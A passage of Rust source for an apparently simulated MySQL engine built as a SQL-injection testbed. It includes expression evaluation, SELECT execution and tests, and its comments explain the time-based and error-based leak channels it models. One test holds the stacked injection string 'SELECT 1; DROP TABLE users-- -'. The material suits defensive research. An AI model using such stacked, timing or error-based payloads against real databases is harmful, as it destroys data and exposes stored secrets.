        assert_eq!(ids, [11, 12]);
    }

    #[test]
    fn join_and_aggregate() {
        let mut db = sample_db();
        let r = db
            .execute(
                "SELECT u.user_login, COUNT(*) FROM posts p JOIN users u ON p.author_id = u.id \
                 GROUP BY u.user_login ORDER BY u.user_login",
            )
            .unwrap();
        assert_eq!(r.rows.len(), 2);
        assert_eq!(r.rows[0][0], Value::Str("admin".into()));
        assert_eq!(r.rows[0][1].as_i64(), 2);
    }

    #[test]
    fn replace_into_works_as_insert() {
        let mut db = sample_db();
        db.execute("REPLACE INTO users (id, user_login, user_pass) VALUES (9, 'z', 'z')").unwrap();
        assert_eq!(db.table("users").unwrap().len(), 3);
    }

    #[test]
    fn virtual_clock_accumulates() {
        let mut db = sample_db();
        let before = db.clock_ms();
        db.execute("SELECT 1").unwrap();
        db.execute("SELECT 1").unwrap();
        assert_eq!(db.clock_ms(), before + 2);
        assert_eq!(db.queries_executed(), 2);
    }

    #[test]
    fn stacked_queries_execute_in_order() {
        let mut db = sample_db();
        let r = db
            .execute("INSERT INTO users (id, user_login, user_pass) VALUES (7, 'eve', 'x'); SELECT user_login FROM users WHERE id = 7")
            .unwrap();
        assert_eq!(r.rows, vec![vec![Value::Str("eve".into())]]);
        assert_eq!(db.queries_executed(), 2);
        // Total elapsed covers both statements.
        assert_eq!(r.elapsed_ms, 2);
    }

    #[test]
    fn stacked_error_aborts_but_earlier_effects_persist() {
        let mut db = sample_db();
        let err =
            db.execute("DELETE FROM posts WHERE id = 10; SELECT * FROM no_such_table").unwrap_err();
        assert!(matches!(err, DbError::UnknownTable(_)));
        assert_eq!(db.table("posts").unwrap().len(), 2, "first statement already ran");
    }

    #[test]
    fn semicolons_inside_literals_and_comments_do_not_split() {
        let mut db = sample_db();
        let r = db.execute("SELECT 'a;b' FROM users WHERE id = 1 -- trailing; note").unwrap();
        assert_eq!(r.rows, vec![vec![Value::Str("a;b".into())]]);
        assert_eq!(db.queries_executed(), 1);
    }

    #[test]
    fn comment_only_trailing_segment_is_dropped() {
        let mut db = sample_db();
        let r = db.execute("SELECT id FROM users WHERE id = 1; -- -").unwrap();
        assert_eq!(r.rows.len(), 1);
        assert_eq!(db.queries_executed(), 1);
    }

    #[test]
    fn split_stacked_is_none_without_top_level_semicolon() {
        assert_eq!(split_stacked("SELECT 1"), None);
        assert_eq!(split_stacked("SELECT ';'"), None);
        assert_eq!(split_stacked(";"), None);
        assert_eq!(
            split_stacked("SELECT 1; DROP TABLE users-- -"),
            Some(vec!["SELECT 1".to_string(), "DROP TABLE users-- -".to_string()])
        );
    }
}
