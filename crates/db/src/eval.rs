//! Expression evaluation with MySQL semantics.

use crate::engine::{Database, DbError, SideEffects};
use joza_sqlparse::ast::*;
use joza_sqlparse::Value;

/// One logical row: `(qualifier, column, value)` bindings. Qualifier and
/// column are stored lowercased for case-insensitive resolution.
#[derive(Debug, Clone, Default)]
pub(crate) struct Env {
    pub entries: Vec<(Option<String>, String, Value)>,
}

impl Env {
    pub fn push(&mut self, qualifier: Option<&str>, name: &str, value: Value) {
        self.entries.push((
            qualifier.map(|q| q.to_ascii_lowercase()),
            name.to_ascii_lowercase(),
            value,
        ));
    }

    pub fn lookup(&self, table: Option<&str>, name: &str) -> Option<&Value> {
        let name = name.to_ascii_lowercase();
        let table = table.map(|t| t.to_ascii_lowercase());
        self.entries
            .iter()
            .find(|(q, n, _)| {
                *n == name
                    && match (&table, q) {
                        (None, _) => true,
                        (Some(t), Some(q)) => t == q,
                        (Some(_), None) => false,
                    }
            })
            .map(|(_, _, v)| v)
    }
}

/// Evaluation context. `outer` chains to the enclosing query's context for
/// correlated subqueries.
#[derive(Clone, Copy)]
pub(crate) struct Ctx<'a> {
    pub db: &'a Database,
    pub env: Option<&'a Env>,
    pub group: Option<&'a [Env]>,
    pub outer: Option<&'a Ctx<'a>>,
}

impl<'a> Ctx<'a> {
    fn resolve(&self, table: Option<&str>, name: &str) -> Option<Value> {
        if let Some(env) = self.env {
            if let Some(v) = env.lookup(table, name) {
                return Some(v.clone());
            }
        }
        // Group context: resolve against the first row of the group (MySQL
        // permissive non-aggregated column semantics).
        if let Some(group) = self.group {
            if let Some(first) = group.first() {
                if let Some(v) = first.lookup(table, name) {
                    return Some(v.clone());
                }
            }
        }
        self.outer.and_then(|o| o.resolve(table, name))
    }
}

const AGGREGATES: &[&str] = &["COUNT", "SUM", "AVG", "MIN", "MAX", "GROUP_CONCAT"];

/// Whether an expression (recursively) contains an aggregate call.
pub(crate) fn contains_aggregate(e: &Expr) -> bool {
    match e {
        Expr::Function { name, args, .. } => {
            AGGREGATES.contains(&name.as_str()) || args.iter().any(contains_aggregate)
        }
        Expr::Unary { expr, .. } => contains_aggregate(expr),
        Expr::Binary { left, right, .. } => contains_aggregate(left) || contains_aggregate(right),
        Expr::IsNull { expr, .. } => contains_aggregate(expr),
        Expr::InList { expr, list, .. } => {
            contains_aggregate(expr) || list.iter().any(contains_aggregate)
        }
        Expr::Between { expr, low, high, .. } => {
            contains_aggregate(expr) || contains_aggregate(low) || contains_aggregate(high)
        }
        Expr::Like { expr, pattern, .. } => contains_aggregate(expr) || contains_aggregate(pattern),
        Expr::Case { operand, branches, else_arm } => {
            operand.as_deref().is_some_and(contains_aggregate)
                || branches.iter().any(|(w, t)| contains_aggregate(w) || contains_aggregate(t))
                || else_arm.as_deref().is_some_and(contains_aggregate)
        }
        _ => false,
    }
}

pub(crate) fn eval(ctx: Ctx<'_>, side: &mut SideEffects, e: &Expr) -> Result<Value, DbError> {
    match e {
        Expr::Literal(v) => Ok(v.clone()),
        Expr::Wildcard => Ok(Value::Int(1)),
        Expr::Column(c) => ctx
            .resolve(c.table.as_deref(), &c.name)
            .ok_or_else(|| DbError::UnknownColumn(c.to_string())),
        Expr::Unary { op, expr } => {
            let v = eval(ctx, side, expr)?;
            Ok(match op {
                UnaryOp::Not => {
                    if v.is_null() {
                        Value::Null
                    } else {
                        Value::from(!v.is_truthy())
                    }
                }
                UnaryOp::Neg => match v {
                    Value::Int(i) => Value::Int(-i),
                    Value::Null => Value::Null,
                    other => Value::Float(-other.as_f64()),
                },
                UnaryOp::Plus => v,
            })
        }
        Expr::Binary { left, op, right } => eval_binary(ctx, side, left, *op, right),
        Expr::Function { name, args, distinct } => {
            if AGGREGATES.contains(&name.as_str()) {
                return eval_aggregate(ctx, side, name, args, *distinct);
            }
            // IF / IFNULL / COALESCE evaluate lazily: `IF(c, SLEEP(5), 0)`
            // must only sleep when the condition holds — that laziness *is*
            // the double-blind timing channel.
            match name.as_str() {
                "IF" if args.len() == 3 => {
                    let c = eval(ctx, side, &args[0])?;
                    return eval(ctx, side, if c.is_truthy() { &args[1] } else { &args[2] });
                }
                "IFNULL" if args.len() == 2 => {
                    let v = eval(ctx, side, &args[0])?;
                    return if v.is_null() { eval(ctx, side, &args[1]) } else { Ok(v) };
                }
                "COALESCE" => {
                    for a in args {
                        let v = eval(ctx, side, a)?;
                        if !v.is_null() {
                            return Ok(v);
                        }
                    }
                    return Ok(Value::Null);
                }
                _ => {}
            }
            let mut vals = Vec::with_capacity(args.len());
            for a in args {
                vals.push(eval(ctx, side, a)?);
            }
            eval_function(side, name, &vals)
        }
        Expr::IsNull { expr, negated } => {
            let v = eval(ctx, side, expr)?;
            Ok(Value::from(v.is_null() != *negated))
        }
        Expr::InList { expr, list, negated } => {
            let v = eval(ctx, side, expr)?;
            let mut found = false;
            for item in list {
                let iv = eval(ctx, side, item)?;
                if v.sql_eq(&iv) == Some(true) {
                    found = true;
                    break;
                }
            }
            Ok(Value::from(found != *negated))
        }
        Expr::InSubquery { expr, subquery, negated } => {
            let v = eval(ctx, side, expr)?;
            let (_, rows) = crate::exec::run_select_with_outer(ctx.db, subquery, side, Some(&ctx))?;
            let found =
                rows.iter().any(|r| r.first().is_some_and(|cell| v.sql_eq(cell) == Some(true)));
            Ok(Value::from(found != *negated))
        }
        Expr::Between { expr, low, high, negated } => {
            let v = eval(ctx, side, expr)?;
            let lo = eval(ctx, side, low)?;
            let hi = eval(ctx, side, high)?;
            let inside = matches!(
                (v.compare(&lo), v.compare(&hi)),
                (Some(a), Some(b))
                    if a != std::cmp::Ordering::Less && b != std::cmp::Ordering::Greater
            );
            Ok(Value::from(inside != *negated))
        }
        Expr::Like { expr, pattern, negated } => {
            let v = eval(ctx, side, expr)?;
            let p = eval(ctx, side, pattern)?;
            let hit = like_match(&v.as_str(), &p.as_str());
            Ok(Value::from(hit != *negated))
        }
        Expr::Subquery(sub) => {
            let (_, rows) = crate::exec::run_select_with_outer(ctx.db, sub, side, Some(&ctx))?;
            Ok(rows.first().and_then(|r| r.first().cloned()).unwrap_or(Value::Null))
        }
        Expr::Exists(sub) => {
            let (_, rows) = crate::exec::run_select_with_outer(ctx.db, sub, side, Some(&ctx))?;
            Ok(Value::from(!rows.is_empty()))
        }
        Expr::Case { operand, branches, else_arm } => {
            let op_val = operand.as_deref().map(|o| eval(ctx, side, o)).transpose()?;
            for (when, then) in branches {
                let w = eval(ctx, side, when)?;
                let hit = match &op_val {
                    Some(ov) => ov.sql_eq(&w) == Some(true),
                    None => w.is_truthy(),
                };
                if hit {
                    return eval(ctx, side, then);
                }
            }
            match else_arm {
                Some(e) => eval(ctx, side, e),
                None => Ok(Value::Null),
            }
        }
        Expr::Placeholder(_) => Ok(Value::Null),
        Expr::Variable(name) => Ok(match name.to_ascii_lowercase().as_str() {
            "@@version" => Value::Str(mysql_version()),
            _ => Value::Null,
        }),
    }
}

fn eval_binary(
    ctx: Ctx<'_>,
    side: &mut SideEffects,
    left: &Expr,
    op: BinaryOp,
    right: &Expr,
) -> Result<Value, DbError> {
    // Short-circuit logicals (important: `0 AND SLEEP(5)` must not sleep).
    match op {
        BinaryOp::And => {
            let l = eval(ctx, side, left)?;
            if !l.is_null() && !l.is_truthy() {
                return Ok(Value::Int(0));
            }
            let r = eval(ctx, side, right)?;
            if l.is_null() || r.is_null() {
                return Ok(if !r.is_null() && !r.is_truthy() {
                    Value::Int(0)
                } else {
                    Value::Null
                });
            }
            return Ok(Value::from(r.is_truthy()));
        }
        BinaryOp::Or => {
            let l = eval(ctx, side, left)?;
            if !l.is_null() && l.is_truthy() {
                return Ok(Value::Int(1));
            }
            let r = eval(ctx, side, right)?;
            if r.is_null() || l.is_null() {
                return Ok(if !r.is_null() && r.is_truthy() { Value::Int(1) } else { Value::Null });
            }
            return Ok(Value::from(r.is_truthy()));
        }
        _ => {}
    }
    let l = eval(ctx, side, left)?;
    let r = eval(ctx, side, right)?;
    Ok(match op {
        BinaryOp::Xor => {
            if l.is_null() || r.is_null() {
                Value::Null
            } else {
                Value::from(l.is_truthy() != r.is_truthy())
            }
        }
        BinaryOp::Eq => tri(l.sql_eq(&r)),
        BinaryOp::NotEq => tri(l.sql_eq(&r).map(|b| !b)),
        BinaryOp::Lt => tri(l.compare(&r).map(|o| o == std::cmp::Ordering::Less)),
        BinaryOp::LtEq => tri(l.compare(&r).map(|o| o != std::cmp::Ordering::Greater)),
        BinaryOp::Gt => tri(l.compare(&r).map(|o| o == std::cmp::Ordering::Greater)),
        BinaryOp::GtEq => tri(l.compare(&r).map(|o| o != std::cmp::Ordering::Less)),
        BinaryOp::Regexp => {
            // Substring semantics: enough for the testbed payloads.
            Value::from(l.as_str().to_ascii_lowercase().contains(&r.as_str().to_ascii_lowercase()))
        }
        BinaryOp::Add => arith(&l, &r, |a, b| a + b),
        BinaryOp::Sub => arith(&l, &r, |a, b| a - b),
        BinaryOp::Mul => arith(&l, &r, |a, b| a * b),
        BinaryOp::Div => {
            if l.is_null() || r.is_null() || r.as_f64() == 0.0 {
                Value::Null
            } else {
                Value::Float(l.as_f64() / r.as_f64())
            }
        }
        BinaryOp::Mod => {
            if l.is_null() || r.is_null() || r.as_i64() == 0 {
                Value::Null
            } else {
                Value::Int(l.as_i64() % r.as_i64())
            }
        }
        BinaryOp::And | BinaryOp::Or => unreachable!("short-circuited above"),
    })
}

fn tri(b: Option<bool>) -> Value {
    match b {
        Some(v) => Value::from(v),
        None => Value::Null,
    }
}

fn arith(l: &Value, r: &Value, f: impl Fn(f64, f64) -> f64) -> Value {
    if l.is_null() || r.is_null() {
        return Value::Null;
    }
    let out = f(l.as_f64(), r.as_f64());
    if out == out.trunc()
        && out.abs() < 9e15
        && !matches!(l, Value::Float(_))
        && !matches!(r, Value::Float(_))
    {
        Value::Int(out as i64)
    } else {
        Value::Float(out)
    }
}

/// MySQL `LIKE` with `%` and `_`, case-insensitive.
pub(crate) fn like_match(s: &str, pattern: &str) -> bool {
    fn rec(s: &[u8], p: &[u8]) -> bool {
        match p.first() {
            None => s.is_empty(),
            Some(b'%') => {
                for skip in 0..=s.len() {
                    if rec(&s[skip..], &p[1..]) {
                        return true;
                    }
                }
                false
            }
            Some(b'_') => !s.is_empty() && rec(&s[1..], &p[1..]),
            Some(&c) => !s.is_empty() && s[0] == c && rec(&s[1..], &p[1..]),
        }
    }
    rec(s.to_ascii_lowercase().as_bytes(), pattern.to_ascii_lowercase().as_bytes())
}

fn mysql_version() -> String {
    "5.6.27-joza-sim".to_string()
}

fn eval_aggregate(
    ctx: Ctx<'_>,
    side: &mut SideEffects,
    name: &str,
    args: &[Expr],
    distinct: bool,
) -> Result<Value, DbError> {
    let group: &[Env] = ctx.group.unwrap_or(&[]);
    // Evaluate the argument once per group row.
    let mut values: Vec<Value> = Vec::with_capacity(group.len());
    for row in group {
        let row_ctx = Ctx { db: ctx.db, env: Some(row), group: None, outer: ctx.outer };
        let v = match args.first() {
            Some(Expr::Wildcard) | None => Value::Int(1),
            Some(a) => eval(row_ctx, side, a)?,
        };
        values.push(v);
    }
    if distinct {
        let mut seen: Vec<String> = Vec::new();
        values.retain(|v| {
            let k = format!("{v:?}");
            if seen.contains(&k) {
                false
            } else {
                seen.push(k);
                true
            }
        });
    }
    let non_null: Vec<&Value> = values.iter().filter(|v| !v.is_null()).collect();
    Ok(match name {
        "COUNT" => {
            if matches!(args.first(), Some(Expr::Wildcard) | None) {
                Value::Int(values.len() as i64)
            } else {
                Value::Int(non_null.len() as i64)
            }
        }
        "SUM" => {
            if non_null.is_empty() {
                Value::Null
            } else {
                Value::Float(non_null.iter().map(|v| v.as_f64()).sum::<f64>())
            }
        }
        "AVG" => {
            if non_null.is_empty() {
                Value::Null
            } else {
                Value::Float(
                    non_null.iter().map(|v| v.as_f64()).sum::<f64>() / non_null.len() as f64,
                )
            }
        }
        "MIN" => non_null
            .iter()
            .fold(None::<Value>, |acc, v| match acc {
                None => Some((*v).clone()),
                Some(a) => {
                    if v.compare(&a) == Some(std::cmp::Ordering::Less) {
                        Some((*v).clone())
                    } else {
                        Some(a)
                    }
                }
            })
            .unwrap_or(Value::Null),
        "MAX" => non_null
            .iter()
            .fold(None::<Value>, |acc, v| match acc {
                None => Some((*v).clone()),
                Some(a) => {
                    if v.compare(&a) == Some(std::cmp::Ordering::Greater) {
                        Some((*v).clone())
                    } else {
                        Some(a)
                    }
                }
            })
            .unwrap_or(Value::Null),
        "GROUP_CONCAT" => {
            if non_null.is_empty() {
                Value::Null
            } else {
                Value::Str(non_null.iter().map(|v| v.as_str()).collect::<Vec<_>>().join(","))
            }
        }
        other => return Err(DbError::Other(format!("unknown aggregate {other}"))),
    })
}

fn eval_function(side: &mut SideEffects, name: &str, args: &[Value]) -> Result<Value, DbError> {
    let a = |i: usize| -> Value { args.get(i).cloned().unwrap_or(Value::Null) };
    let s = |i: usize| -> String { a(i).as_str() };
    Ok(match name {
        "CONCAT" => {
            if args.iter().any(Value::is_null) {
                Value::Null
            } else {
                Value::Str(args.iter().map(Value::as_str).collect())
            }
        }
        "CONCAT_WS" => {
            let sep = s(0);
            Value::Str(
                args[1..]
                    .iter()
                    .filter(|v| !v.is_null())
                    .map(Value::as_str)
                    .collect::<Vec<_>>()
                    .join(&sep),
            )
        }
        "CHAR" => Value::Str(
            args.iter()
                .filter(|v| !v.is_null())
                .map(|v| char::from_u32(v.as_i64().clamp(0, 0x10FFFF) as u32).unwrap_or('\u{FFFD}'))
                .collect(),
        ),
        "ASCII" | "ORD" => {
            let st = s(0);
            if a(0).is_null() {
                Value::Null
            } else {
                Value::Int(st.as_bytes().first().map_or(0, |b| i64::from(*b)))
            }
        }
        "LENGTH" | "CHAR_LENGTH" => {
            if a(0).is_null() {
                Value::Null
            } else {
                Value::Int(s(0).len() as i64)
            }
        }
        "LOWER" => Value::Str(s(0).to_ascii_lowercase()),
        "UPPER" => Value::Str(s(0).to_ascii_uppercase()),
        "TRIM" => Value::Str(s(0).trim().to_string()),
        "REPLACE" => Value::Str(s(0).replace(&s(1), &s(2))),
        "SUBSTRING" | "SUBSTR" | "MID" => {
            if a(0).is_null() {
                return Ok(Value::Null);
            }
            let st = s(0);
            let pos = a(1).as_i64();
            let len = if args.len() > 2 { Some(a(2).as_i64()) } else { None };
            Value::Str(mysql_substring(&st, pos, len))
        }
        "INSTR" => Value::Int(s(0).find(&s(1)).map_or(0, |i| i as i64 + 1)),
        "LPAD" => {
            let st = s(0);
            let target = a(1).as_i64().max(0) as usize;
            let pad = s(2);
            Value::Str(pad_to(&st, target, &pad, true))
        }
        "RPAD" => {
            let st = s(0);
            let target = a(1).as_i64().max(0) as usize;
            let pad = s(2);
            Value::Str(pad_to(&st, target, &pad, false))
        }
        "HEX" => Value::Str(s(0).bytes().map(|b| format!("{b:02X}")).collect()),
        "UNHEX" => {
            let h = s(0);
            if h.len() % 2 != 0 || !h.bytes().all(|b| b.is_ascii_hexdigit()) {
                Value::Null
            } else {
                let bytes: Vec<u8> = (0..h.len())
                    .step_by(2)
                    .map(|i| u8::from_str_radix(&h[i..i + 2], 16).unwrap_or(0))
                    .collect();
                Value::Str(String::from_utf8_lossy(&bytes).into_owned())
            }
        }
        "MD5" => Value::Str(pseudo_md5(&s(0))),
        "IF" => {
            if a(0).is_truthy() {
                a(1)
            } else {
                a(2)
            }
        }
        "IFNULL" => {
            if a(0).is_null() {
                a(1)
            } else {
                a(0)
            }
        }
        "COALESCE" => args.iter().find(|v| !v.is_null()).cloned().unwrap_or(Value::Null),
        "VERSION" => Value::Str(mysql_version()),
        "USER" | "CURRENT_USER" | "USERNAME" | "SYSTEM_USER" | "SESSION_USER" => {
            Value::Str("wpuser@localhost".to_string())
        }
        "DATABASE" | "SCHEMA" => Value::Str("wordpress".to_string()),
        "NOW" | "CURRENT_TIMESTAMP" => Value::Str("2014-11-01 12:00:00".to_string()),
        "FLOOR" => Value::Int(a(0).as_f64().floor() as i64),
        "ROUND" => Value::Int(a(0).as_f64().round() as i64),
        "ABS" => {
            let f = a(0).as_f64().abs();
            if f == f.trunc() {
                Value::Int(f as i64)
            } else {
                Value::Float(f)
            }
        }
        "RAND" => {
            // xorshift — deterministic per engine.
            side.rand_state ^= side.rand_state << 13;
            side.rand_state ^= side.rand_state >> 7;
            side.rand_state ^= side.rand_state << 17;
            Value::Float((side.rand_state % 1_000_000) as f64 / 1_000_000.0)
        }
        "SLEEP" => {
            let secs = a(0).as_f64().max(0.0);
            side.sleep_ms += (secs * 1000.0) as u64;
            Value::Int(0)
        }
        "BENCHMARK" => {
            // Model: one million iterations ≈ 250 virtual ms.
            let iters = a(0).as_i64().max(0) as u64;
            side.sleep_ms += iters / 4000;
            Value::Int(0)
        }
        "CAST" | "CONVERT" => a(0),
        "EXTRACTVALUE" | "UPDATEXML" => {
            // MySQL raises `XPATH syntax error` embedding (a prefix of) the
            // evaluated XPath argument — the error-based exfiltration channel.
            let leak = s(1);
            let truncated: String = leak.chars().take(32).collect();
            return Err(DbError::Xpath(truncated));
        }
        "LOAD_FILE" => Value::Null,
        other => return Err(DbError::Other(format!("unknown function {other}()"))),
    })
}

/// MySQL SUBSTRING: 1-based, negative positions count from the end.
fn mysql_substring(s: &str, pos: i64, len: Option<i64>) -> String {
    let n = s.len() as i64;
    let start = if pos > 0 {
        pos - 1
    } else if pos < 0 {
        (n + pos).max(0)
    } else {
        return String::new(); // MySQL: position 0 yields empty
    };
    if start >= n {
        return String::new();
    }
    let end = match len {
        None => n,
        Some(l) if l <= 0 => return String::new(),
        Some(l) => (start + l).min(n),
    };
    s.get(start as usize..end as usize).unwrap_or("").to_string()
}

fn pad_to(s: &str, target: usize, pad: &str, left: bool) -> String {
    if s.len() >= target {
        return s[..target].to_string();
    }
    if pad.is_empty() {
        return String::new();
    }
    let mut padding = String::new();
    while s.len() + padding.len() < target {
        padding.push_str(pad);
    }
    padding.truncate(target - s.len());
    if left {
        format!("{padding}{s}")
    } else {
        format!("{s}{padding}")
    }
}

/// Deterministic stand-in for MD5 (stable 32-hex digest; not crypto).
fn pseudo_md5(s: &str) -> String {
    let mut h1: u64 = 0xcbf29ce484222325;
    let mut h2: u64 = 0x9e3779b97f4a7c15;
    for &b in s.as_bytes() {
        h1 = (h1 ^ u64::from(b)).wrapping_mul(0x100000001b3);
        h2 = h2.rotate_left(7) ^ u64::from(b).wrapping_mul(0x2545F4914F6CDD1D);
    }
    format!("{h1:016x}{h2:016x}")
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn like_patterns() {
        assert!(like_match("hello world", "%world"));
        assert!(like_match("hello world", "hello%"));
        assert!(like_match("hello", "h_llo"));
        assert!(like_match("HELLO", "hello"));
        assert!(!like_match("hello", "h_lo"));
        assert!(like_match("", "%"));
        assert!(!like_match("", "_"));
        assert!(like_match("abc", "%b%"));
    }

    #[test]
    fn substring_semantics() {
        assert_eq!(mysql_substring("Quadratically", 5, Some(6)), "ratica");
        assert_eq!(mysql_substring("Sakila", -3, None), "ila");
        assert_eq!(mysql_substring("Sakila", 0, None), "");
        assert_eq!(mysql_substring("abc", 10, None), "");
        assert_eq!(mysql_substring("abc", 1, Some(0)), "");
    }

    #[test]
    fn padding() {
        assert_eq!(pad_to("hi", 5, "?", true), "???hi");
        assert_eq!(pad_to("hi", 5, "ab", false), "hiaba");
        assert_eq!(pad_to("hello", 3, "?", true), "hel");
    }

    #[test]
    fn env_lookup_qualifiers() {
        let mut env = Env::default();
        env.push(Some("u"), "ID", Value::Int(1));
        env.push(Some("p"), "id", Value::Int(2));
        assert_eq!(env.lookup(None, "id"), Some(&Value::Int(1))); // first wins
        assert_eq!(env.lookup(Some("p"), "ID"), Some(&Value::Int(2)));
        assert_eq!(env.lookup(Some("x"), "id"), None);
    }
}
