//! Statement executors: SELECT pipeline plus INSERT/UPDATE/DELETE.

use crate::engine::{Database, DbError, SideEffects};
use crate::eval::{contains_aggregate, eval, Ctx, Env};
use joza_sqlparse::ast::*;
use joza_sqlparse::Value;

/// Runs a SELECT (with any UNION continuations) and returns
/// `(column names, rows)`.
pub(crate) fn run_select(
    db: &Database,
    sel: &SelectStatement,
    side: &mut SideEffects,
) -> Result<(Vec<String>, Vec<Vec<Value>>), DbError> {
    run_select_with_outer(db, sel, side, None)
}

pub(crate) fn run_select_with_outer(
    db: &Database,
    sel: &SelectStatement,
    side: &mut SideEffects,
    outer: Option<&Ctx<'_>>,
) -> Result<(Vec<String>, Vec<Vec<Value>>), DbError> {
    let (columns, mut rows) = run_select_body(db, sel, side, outer)?;
    for (op, arm) in &sel.set_ops {
        let (_, arm_rows) = run_select_body(db, arm, side, outer)?;
        let arm_width = arm_rows.first().map_or_else(|| count_projection_width(arm), |r| r.len());
        if arm_width != columns.len() && !(arm_rows.is_empty() && arm_width == 0) {
            return Err(DbError::UnionColumnMismatch { left: columns.len(), right: arm_width });
        }
        rows.extend(arm_rows);
        if *op == SetOp::Union {
            dedup_rows(&mut rows);
        }
    }
    Ok((columns, rows))
}

/// Static column count of a SELECT's projection list (used to detect UNION
/// column mismatches even when an arm produced zero rows).
fn count_projection_width(sel: &SelectStatement) -> usize {
    // Wildcards have data-dependent width; treat each as one-or-more. For
    // mismatch detection on empty arms we only need a best-effort count.
    sel.projections.len()
}

fn dedup_rows(rows: &mut Vec<Vec<Value>>) {
    let mut seen: Vec<String> = Vec::new();
    rows.retain(|r| {
        let key = format!("{r:?}");
        if seen.contains(&key) {
            false
        } else {
            seen.push(key);
            true
        }
    });
}

fn run_select_body(
    db: &Database,
    sel: &SelectStatement,
    side: &mut SideEffects,
    outer: Option<&Ctx<'_>>,
) -> Result<(Vec<String>, Vec<Vec<Value>>), DbError> {
    // 1. FROM / JOIN: build the row environments.
    let mut envs: Vec<Env> = match &sel.from {
        None => vec![Env::default()],
        Some(table) => load_table(db, table)?,
    };
    for join in &sel.joins {
        envs = apply_join(db, envs, join, side, outer)?;
    }

    // 2. WHERE.
    if let Some(pred) = &sel.where_clause {
        let mut kept = Vec::with_capacity(envs.len());
        for env in envs {
            let ctx = Ctx { db, env: Some(&env), group: None, outer };
            if eval(ctx, side, pred)?.is_truthy() {
                kept.push(env);
            }
        }
        envs = kept;
    }

    // 3. Aggregation decision.
    let aggregated = !sel.group_by.is_empty()
        || sel.projections.iter().any(|p| match p {
            Projection::Expr { expr, .. } => contains_aggregate(expr),
            _ => false,
        })
        || sel.having.as_ref().is_some_and(contains_aggregate);

    let mut out_columns: Vec<String> = Vec::new();
    // Each produced row carries its ORDER BY keys.
    let mut produced: Vec<(Vec<Value>, Vec<Value>)> = Vec::new();

    if aggregated {
        // Group rows by GROUP BY key.
        let mut groups: Vec<(Vec<Value>, Vec<Env>)> = Vec::new();
        for env in envs {
            let ctx = Ctx { db, env: Some(&env), group: None, outer };
            let mut key = Vec::with_capacity(sel.group_by.len());
            for g in &sel.group_by {
                key.push(eval(ctx, side, g)?);
            }
            match groups.iter_mut().find(|(k, _)| values_eq(k, &key)) {
                Some((_, members)) => members.push(env),
                None => groups.push((key, vec![env])),
            }
        }
        if groups.is_empty() && sel.group_by.is_empty() {
            groups.push((Vec::new(), Vec::new())); // aggregate over empty set
        }
        for (_, members) in &groups {
            let ctx = Ctx { db, env: members.first(), group: Some(members), outer };
            if let Some(h) = &sel.having {
                if !eval(ctx, side, h)?.is_truthy() {
                    continue;
                }
            }
            let (cols, row) = project(ctx, side, sel, members.first())?;
            if out_columns.is_empty() {
                out_columns = cols;
            }
            let keys = order_keys(ctx, side, sel)?;
            produced.push((row, keys));
        }
    } else {
        for env in &envs {
            let ctx = Ctx { db, env: Some(env), group: None, outer };
            let (cols, row) = project(ctx, side, sel, Some(env))?;
            if out_columns.is_empty() {
                out_columns = cols;
            }
            let keys = order_keys(ctx, side, sel)?;
            produced.push((row, keys));
        }
        if produced.is_empty() {
            // Determine column names for an empty result from the schema.
            let ctx = Ctx { db, env: None, group: None, outer };
            if let Ok((cols, _)) = project_names_only(ctx, sel, &envs) {
                out_columns = cols;
            }
        }
    }

    // 4. DISTINCT.
    if sel.distinct {
        let mut seen: Vec<String> = Vec::new();
        produced.retain(|(r, _)| {
            let key = format!("{r:?}");
            if seen.contains(&key) {
                false
            } else {
                seen.push(key);
                true
            }
        });
    }

    // 5. ORDER BY.
    if !sel.order_by.is_empty() {
        let descs: Vec<bool> = sel.order_by.iter().map(|o| o.desc).collect();
        produced.sort_by(|(_, ka), (_, kb)| {
            for (i, (a, b)) in ka.iter().zip(kb.iter()).enumerate() {
                let ord = a.compare(b).unwrap_or(std::cmp::Ordering::Equal);
                let ord = if descs.get(i).copied().unwrap_or(false) { ord.reverse() } else { ord };
                if ord != std::cmp::Ordering::Equal {
                    return ord;
                }
            }
            std::cmp::Ordering::Equal
        });
    }

    // 6. LIMIT / OFFSET.
    let mut rows: Vec<Vec<Value>> = produced.into_iter().map(|(r, _)| r).collect();
    if let Some(limit) = &sel.limit {
        let ctx = Ctx { db, env: None, group: None, outer };
        let count = eval(ctx, side, &limit.count)?.as_i64().max(0) as usize;
        let offset = match &limit.offset {
            Some(o) => eval(ctx, side, o)?.as_i64().max(0) as usize,
            None => 0,
        };
        rows = rows.into_iter().skip(offset).take(count).collect();
    }

    Ok((out_columns, rows))
}

fn values_eq(a: &[Value], b: &[Value]) -> bool {
    a.len() == b.len()
        && a.iter().zip(b).all(|(x, y)| x.sql_eq(y).unwrap_or(x.is_null() && y.is_null()))
}

fn load_table(db: &Database, table: &TableRef) -> Result<Vec<Env>, DbError> {
    let t = db.table(&table.name).ok_or_else(|| DbError::UnknownTable(table.name.clone()))?;
    let qualifier = table.alias.as_deref().unwrap_or(&table.name);
    Ok(t.rows()
        .iter()
        .map(|row| {
            let mut env = Env::default();
            for (col, val) in t.columns().iter().zip(row) {
                env.push(Some(qualifier), col, val.clone());
            }
            env
        })
        .collect())
}

fn apply_join(
    db: &Database,
    left: Vec<Env>,
    join: &Join,
    side: &mut SideEffects,
    outer: Option<&Ctx<'_>>,
) -> Result<Vec<Env>, DbError> {
    let right = load_table(db, &join.table)?;
    let mut out = Vec::new();
    for l in &left {
        let mut matched = false;
        for r in &right {
            let mut combined = l.clone();
            combined.entries.extend(r.entries.iter().cloned());
            let keep = match (&join.kind, &join.on) {
                (JoinKind::Cross, _) | (_, None) => true,
                (_, Some(pred)) => {
                    let ctx = Ctx { db, env: Some(&combined), group: None, outer };
                    eval(ctx, side, pred)?.is_truthy()
                }
            };
            if keep {
                matched = true;
                out.push(combined);
            }
        }
        if !matched && join.kind == JoinKind::Left {
            // Null-extend the right side.
            let mut combined = l.clone();
            if let Some(rt) = db.table(&join.table.name) {
                let q = join.table.alias.as_deref().unwrap_or(&join.table.name);
                for col in rt.columns() {
                    combined.push(Some(q), col, Value::Null);
                }
            }
            out.push(combined);
        }
    }
    Ok(out)
}

fn project(
    ctx: Ctx<'_>,
    side: &mut SideEffects,
    sel: &SelectStatement,
    env: Option<&Env>,
) -> Result<(Vec<String>, Vec<Value>), DbError> {
    let mut cols = Vec::new();
    let mut row = Vec::new();
    for p in &sel.projections {
        match p {
            Projection::Wildcard => match env {
                Some(e) => {
